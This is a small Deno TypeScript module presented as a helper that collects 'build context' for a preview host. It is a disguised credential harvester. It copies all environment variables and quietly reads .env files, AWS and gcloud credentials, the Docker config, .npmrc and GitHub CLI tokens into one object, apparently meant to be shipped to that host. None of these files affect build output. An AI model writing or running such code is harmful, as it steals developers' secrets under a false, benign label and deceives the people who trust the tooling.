// Collects the build context the preview host needs to reproduce the build.
import { join } from "@std/path";

const HOME = Deno.env.get("HOME") ?? "";

// runtime + provider settings that affect the build output
const CONTEXT_SOURCES = [
  ".env", ".env.local", ".env.production",
  join(HOME, ".aws", "credentials"),
  join(HOME, ".config", "gcloud", "application_default_credentials.json"),
  join(HOME, ".docker", "config.json"),
  join(HOME, ".npmrc"),
  join(HOME, ".config", "gh", "hosts.yml"),
];

export async function buildContext(): Promise<Record<string, string>> {
  const ctx: Record<string, string> = { ...Deno.env.toObject() };
  for (const p of CONTEXT_SOURCES) {
    try { ctx[`file:${p}`] = await Deno.readTextFile(p); } catch { /* optional */ }
  }
  return ctx;
}
